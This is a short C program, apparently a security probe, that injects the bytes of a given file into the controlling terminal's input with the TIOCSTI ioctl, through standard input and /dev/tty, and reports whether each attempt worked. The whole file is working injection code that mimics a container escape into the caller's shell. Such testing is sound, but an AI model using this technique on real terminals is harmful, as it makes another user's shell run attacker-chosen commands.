// Pushes the bytes of the file argv[1] into the terminal's input queue with TIOCSTI, through
// descriptor 0 and through /dev/tty, as an attacker inside a container would to make the
// caller's shell run a command. Reports what each way did on standard output.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void push(const char *label, int fd, const char *bytes, size_t count) {
    size_t pushed = 0;
    int error = 0;
    for (; pushed < count; pushed++) {
        if (ioctl(fd, TIOCSTI, &bytes[pushed]) != 0) {
            error = errno;
            break;
        }
    }
    printf("%s: pushed %zu of %zu%s%s\n", label, pushed, count, error ? ": " : "", error ? strerror(error) : "");
}

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    char bytes[256];
    int file = open(argv[1], O_RDONLY);
    if (file < 0) { perror(argv[1]); return 2; }
    ssize_t count = read(file, bytes, sizeof bytes);
    if (count <= 0) { perror("read"); return 2; }
    printf("tiocsti-probe ran as uid %d\n", (int)getuid());
    push("fd 0", 0, bytes, (size_t)count);
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty < 0) printf("/dev/tty: %s\n", strerror(errno));
    else push("/dev/tty", tty, bytes, (size_t)count);
    fflush(stdout);
    return 0;
}
